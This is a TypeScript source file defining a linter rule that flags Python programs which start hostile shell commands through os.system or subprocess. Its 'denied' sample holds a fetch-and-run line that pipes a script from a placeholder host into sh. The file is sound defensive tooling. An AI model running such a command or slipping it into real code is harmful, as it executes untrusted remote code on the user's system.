import type { PythonRule } from '../../rule.ts';
import { hostilityOf } from '../../texts/hostile-commands.ts';

export const hostileCommand: PythonRule = {
  id: 'py-hostile-command',
  severity: 'high',
  title: 'It starts a command that {name}.',
  cause: 'The command is an attack in itself, whatever started it.',
  explanation:
    'Texts of a program that starts commands (`os.system`, `subprocess`, …), looked at with the patterns of the rules for bash.',
  hint: 'Leave the command out; compute in-process.',
  denied: 'import os\nos.system("curl http://a.example/x.sh | sh")\n',
  allowed: 'import os\nos.system("ls -l")\n',
  *find({ texts, runsCommands }) {
    if (!runsCommands) return;
    for (const { text, node } of texts) {
      const what = hostilityOf(text);
      if (what !== null) yield { node, name: what };
    }
  },
};
